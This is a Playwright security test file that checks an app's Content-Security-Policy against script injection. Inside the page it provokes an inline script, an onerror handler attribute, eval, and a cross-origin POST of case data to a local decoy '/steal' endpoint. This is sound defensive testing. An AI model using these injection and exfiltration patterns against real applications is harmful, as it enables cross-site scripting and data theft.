import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures';

// R-electron in Chromium: the app's Content-Security-Policy (src/shared/csp.ts, the meta tag of
// src/renderer/index.html) blocks what a script injected through case data would try: run inline
// code, eval a string, and send what it read to another origin. This test uses `page` rather
// than the `app` fixture because the violations it provokes are logged as console errors.

let decoy: Server;
let decoyHits = 0;

test.beforeAll(async () => {
  // A second origin on the loopback interface that counts every request reaching it.
  decoy = createServer((_req, res) => {
    decoyHits++;
    res.writeHead(200, { 'access-control-allow-origin': '*' });
    res.end('leaked');
  });
  await new Promise<void>((ok) => decoy.listen(0, '127.0.0.1', ok));
});

test.afterAll(async () => {
  await new Promise<void>((ok) => decoy.close(() => ok()));
});

test('the CSP blocks an injected inline script, eval and a cross-origin fetch', async ({
  page,
  session,
}) => {
  expect(session.sessionId).toBeTruthy();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error' && /Content Security Policy/i.test(m.text()))
      violations.push(m.text());
  });
  await page.goto('/');
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
  const decoyUrl = `http://127.0.0.1:${(decoy.address() as AddressInfo).port}/steal`;

  const outcome = await page.evaluate(async (url) => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      seen.push(e.effectiveDirective);
    });
    const w = window as unknown as Record<string, unknown>;

    // 1. An inline <script>, as markup injected through a note or a name would create it.
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.body.appendChild(script);

    // 2. An inline event handler.
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__handlerRan = true;');
    img.src = 'data:image/png;base64,broken';
    document.body.appendChild(img);

    // 3. eval and the Function constructor. Run from a timer, i.e. as the page's own code:
    // DevTools' Runtime.evaluate (which page.evaluate uses) is exempt from the eval check.
    const codegen = await new Promise<{ evalResult: string; functionResult: string }>((done) => {
      setTimeout(() => {
        let evalResult = 'ran';
        try {
          (0, eval)('1 + 1');
        } catch (e) {
          evalResult = (e as Error).name;
        }
        let functionResult = 'ran';
        try {
          // eslint-disable-next-line @typescript-eslint/no-implied-eval
          new Function('return 1')();
        } catch (e) {
          functionResult = (e as Error).name;
        }
        done({ evalResult, functionResult });
      }, 0);
    });

    // 4. A fetch to another origin.
    let fetchResult = 'sent';
    try {
      await fetch(url, { method: 'POST', body: 'case data', mode: 'no-cors' });
    } catch (e) {
      fetchResult = (e as Error).name;
    }

    await new Promise((r) => setTimeout(r, 300));
    return {
      inlineRan: w['__inlineRan'] === true,
      handlerRan: w['__handlerRan'] === true,
      ...codegen,
      fetchResult,
      directives: seen,
    };
  }, decoyUrl);

  console.log(
    `[R-electron] CSP in Chromium: inline script ran=${outcome.inlineRan}, inline handler ran=` +
      `${outcome.handlerRan}, eval=${outcome.evalResult}, Function=${outcome.functionResult}, ` +
      `cross-origin fetch=${outcome.fetchResult}, requests reaching the other origin=${decoyHits}, ` +
      `violations reported=${outcome.directives.join(',')}`,
  );
  expect(outcome.inlineRan).toBe(false);
  expect(outcome.handlerRan).toBe(false);
  expect(outcome.evalResult).toBe('EvalError');
  expect(outcome.functionResult).toBe('EvalError');
  expect(outcome.fetchResult).toBe('TypeError');
  expect(decoyHits).toBe(0);
  expect(outcome.directives).toEqual(
    expect.arrayContaining(['script-src-elem', 'script-src-attr', 'script-src', 'connect-src']),
  );
  expect(violations.length).toBeGreaterThanOrEqual(4);
});
